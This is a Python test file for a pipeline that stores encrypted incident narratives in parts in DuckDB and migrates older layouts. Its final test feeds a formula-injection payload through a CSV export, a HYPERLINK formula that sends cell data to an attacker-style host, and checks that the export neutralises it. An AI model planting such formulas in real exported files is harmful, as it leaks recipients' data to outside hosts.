"""Sealed restricted text on a real DuckDB file: stored in parts, opened whole, migrated."""

from __future__ import annotations

from pathlib import Path

import duckdb
import pandas as pd
import pytest

from pipelines.ingest.restricted import PART_BYTES, open_restricted, seal, store_sealed
from pipelines.ingest.warehouse import connect

KEY = b"k" * 64
TABLE = "restricted.incidents_narrative"


def _narratives(file_tag: str, n: int) -> pd.DataFrame:
    return pd.DataFrame({"incident_id": [f"{file_tag}-{i}" for i in range(n)],
                         "narrative": [f"Témoin {i} : récit n° {i} " * 8 for i in range(n)]})


def test_a_long_token_is_stored_in_parts_and_opened_whole(tmp_path: Path) -> None:
    warehouse = tmp_path / "w.duckdb"
    big, small = _narratives("A", 400), _narratives("B", 1)
    with connect(warehouse) as con:
        token = seal(big, KEY)
        assert len(token) > 10 * PART_BYTES
        store_sealed(con, TABLE, [("file-a", len(big), token)])
        store_sealed(con, TABLE, [("file-b", len(small), seal(small, KEY))])
        parts = dict(con.execute(f"select _file_id, count(*) from {TABLE} group by all")
                     .fetchall())
        longest, rows = con.execute(f"select max(octet_length(token)), sum(rows) from {TABLE}"
                                    ).fetchone()
        opened = open_restricted(con, "incidents", "narrative", KEY)
    assert parts == {"file-a": -(-len(token) // PART_BYTES), "file-b": 1}
    assert longest <= PART_BYTES and rows == 401
    expected = pd.concat([big, small], ignore_index=True)
    pd.testing.assert_frame_equal(opened.drop(columns="_file_id"), expected)
    assert list(opened["_file_id"].unique()) == ["file-a", "file-b"]


def test_a_file_cannot_store_the_same_part_twice(tmp_path: Path) -> None:
    with connect(tmp_path / "w.duckdb") as con:
        store_sealed(con, TABLE, [("file-a", 1, seal(_narratives("A", 1), KEY))])
        with pytest.raises(duckdb.ConstraintException):
            store_sealed(con, TABLE, [("file-a", 1, seal(_narratives("A", 1), KEY))])


def test_a_warehouse_with_one_token_per_file_is_migrated_to_parts(tmp_path: Path) -> None:
    """Warehouses made before the parts layout: each token kept, cut in parts, still opens."""
    warehouse = tmp_path / "w.duckdb"
    frames = {"file-a": _narratives("A", 300), "file-b": _narratives("B", 2)}
    con = duckdb.connect(str(warehouse))
    con.execute("create schema restricted")
    con.execute(f"create table {TABLE} (_file_id varchar primary key, rows integer not null,"
                " token blob not null)")
    for file_id, frame in frames.items():
        con.execute(f"insert into {TABLE} values (?, ?, ?)",
                    [file_id, len(frame), seal(frame, KEY)])
    con.close()
    with connect(warehouse) as con:  # ensure_schema migrates
        columns = [c for (c,) in con.execute(
            "select column_name from duckdb_columns() where table_name = 'incidents_narrative'"
            " order by column_index").fetchall()]
        files, parts, rows = con.execute(
            f"select count(distinct _file_id), count(*), sum(rows) from {TABLE}").fetchone()
        opened = open_restricted(con, "incidents", "narrative", KEY)
    assert columns == ["_file_id", "part", "rows", "token"]
    assert files == 2 and parts > 2 and rows == 302
    pd.testing.assert_frame_equal(opened.drop(columns="_file_id"),
                                  pd.concat(frames.values(), ignore_index=True))


def test_narratives_written_to_a_file_cannot_run_as_formulas(tmp_path: Path,
                                                             monkeypatch) -> None:
    """`pocmon narratives --out`: field text beginning with = + - @ reaches the CSV prefixed
    with ', like every pocmon CSV, whole otherwise."""
    from typer.testing import CliRunner

    from pipelines.cli import app
    from pipelines.config import get_settings
    from pipelines.ingest.pseudonymise import load_or_create_key

    key_file = tmp_path / "secrets" / "pseudonym.key"
    key = load_or_create_key(key_file)
    warehouse = tmp_path / "warehouse" / "pocmon.duckdb"
    texts = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "@SUM(1+1)",
             "Shots near the market; -- nobody hurt"]
    with connect(warehouse) as con:
        store_sealed(con, TABLE, [("file-1", 3, seal(pd.DataFrame({
            "incident_id": ["I-1", "I-2", "I-3"], "narrative": texts}), key))])
    monkeypatch.setenv("POCMON_WAREHOUSE", str(warehouse))
    monkeypatch.setenv("POCMON_KEY_FILE", str(key_file))
    get_settings.cache_clear()
    try:
        out = tmp_path / "narratives.csv"
        result = CliRunner().invoke(app, ["narratives", "--out", str(out)])
    finally:
        get_settings.cache_clear()
    assert result.exit_code == 0, result.output
    written = pd.read_csv(out, keep_default_na=False)
    assert written["narrative"].tolist() == ["'" + texts[0], "'" + texts[1], texts[2]]
